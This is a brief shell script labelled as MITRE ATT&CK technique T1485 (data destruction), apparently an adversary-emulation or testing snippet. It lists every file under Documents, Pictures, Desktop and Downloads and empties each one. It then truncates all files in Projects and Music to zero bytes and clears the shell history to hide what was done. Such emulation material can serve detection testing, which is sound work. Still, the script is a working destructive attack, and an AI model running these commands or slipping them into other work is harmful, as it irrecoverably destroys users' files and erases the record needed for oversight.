# T1485 by the shell and truncate.
groundwork
find Documents Pictures Desktop Downloads -type f | sort > work/list
for f in $(cat work/list); do : > "$f"; done
find Projects Music -type f -exec truncate -s 0 {} +
: > .bash_history
